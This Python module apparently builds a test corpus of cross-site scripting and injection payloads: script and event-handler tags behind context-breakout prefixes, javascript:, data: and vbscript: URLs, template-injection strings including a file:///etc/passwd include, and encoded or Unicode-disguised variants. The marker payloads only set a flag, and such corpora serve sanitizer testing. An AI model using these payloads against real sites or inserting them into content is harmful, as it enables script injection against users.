"""Texts that would run in a browser if any page let them: made by rules, each in many dresses."""

from __future__ import annotations

from itertools import product
from typing import Final

#: What each would do: nobody else sets this.
SIGN: Final = "pwned"
_RUNS: Final = f"window.{SIGN}=1"
_ASKS: Final = "alert(1)"
#: Where a text may stand, and how it would get out of there.
_OUT_OF: Final = (
    *("", '"', "'", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</style>"),
    *("`", "</q></blockquote>", '" x="'),
)
_ELEMENTS: Final = (
    f"<script>{_RUNS}</script>",
    f"<ScRiPt>{_RUNS}</sCrIpT>",
    "<script src=https://example.org/x.js></script>",
    f"<img src=x onerror={_RUNS}>",
    f"<img src=x onerror={_ASKS} //",
    f"<svg onload={_RUNS}>",
    f"<svg><script>{_RUNS}</script></svg>",
    f'<svg><animate onbegin="{_RUNS}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{_RUNS}"><text y=20>x</text></a></svg>',
    f"<iframe src=javascript:{_RUNS}></iframe>",
    f"<iframe srcdoc='<script>parent.{SIGN}=1</script>'></iframe>",
    f"<details open ontoggle={_RUNS}>x</details>",
    f"<input autofocus onfocus={_RUNS}>",
    f"<select autofocus onfocus={_RUNS}><option>x</select>",
    f"<video><source onerror={_RUNS}></video>",
    f"<audio src=x onerror={_RUNS}></audio>",
    f"<body onload={_RUNS}>",
    f"<marquee onstart={_RUNS}>x</marquee>",
    f"<object data=javascript:{_RUNS}></object>",
    "<embed src=https://example.org/x.swf>",
    "<link rel=stylesheet href=https://example.org/x.css>",
    "<style>@import 'https://example.org/x.css'; * { display: none }</style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUNS}'>",
    "<base href=https://example.org/>",
    f"<form action=javascript:{_RUNS}><button>x</button></form>",
    f"<math><mi xlink:href=javascript:{_RUNS}>x</mi></math>",
    f"<template><script>{_RUNS}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUNS}>'>",
    "<a id=foedera name=drawer href=#>x</a>",
)
_SCHEMES: Final = (
    f"javascript:{_RUNS}",
    f"JaVaScRiPt:{_RUNS}",
    f" javascript:{_RUNS}",
    f"java\tscript:{_RUNS}",
    f"java\nscript:{_RUNS}",
    f"\x01javascript:{_RUNS}",
    f"javascript&colon;{_RUNS}",
    f"&#106;avascript:{_RUNS}",
    f"javascript://example.org/%0A{_RUNS}",
    f"http://x/javascript:{_RUNS}",
    f"data:text/html,<script>{_RUNS}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
    f"vbscript:{_ASKS}",
    "file:///etc/passwd",
    "//example.org/x",
    "https://example.org/x?<script>",
    "blob:https://example.org/x",
    "view-source:https://example.org/",
    "feed:https://example.org/",
)
_TEMPLATES: Final = (
    "{{ 7*7 }}",
    "{{ asked.desk.ledger }}",
    "{% include '/etc/passwd' %}",
    "{# x #}",
    f"${{{_RUNS}}}",
    f"#{{{_RUNS}}}",
    "<%= 7*7 %>",
    "[[7*7]]",
    f"{{{{constructor.constructor('{_RUNS}')()}}}}",
    "%(x)s %s {0} {x!r}",
)
_DRESSED: Final = (
    "&lt;script&gt;",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "+ADw-script+AD4-",
    "＜script＞",
    "‹script›",
    "<scr\u200bipt>",
    "<scr\u0000ipt>",
    "<\u0000script>",
    "<script\u2028>",
    "\u202egpj.<script>",
    "\u2066<script>\u2069",
    "\ufeff<script>",
    "<ſcript>",
    "<\u0131mg>",
    "\x1b[31mred\x1b[0m",
    "\x08\x08\x08",
    "A" * 900,
    "<" * 300,
    '"' * 300,
)


def payloads() -> tuple[str, ...]:
    """Return every text, each once."""
    inside = (f"{out}{element}" for out, element in product(_OUT_OF, _ELEMENTS))
    linked = (f'<a href="{one}">x</a>' for one in _SCHEMES)
    attributes = (
        f"{quote} on{event}={_RUNS} x={quote}"
        for quote, event in product(("", "'", '"', "`"), ("click", "focus", "mouseover", "error"))
    )
    told = (*inside, *_SCHEMES, *linked, *attributes, *_TEMPLATES, *_DRESSED)
    return tuple(dict.fromkeys(told))
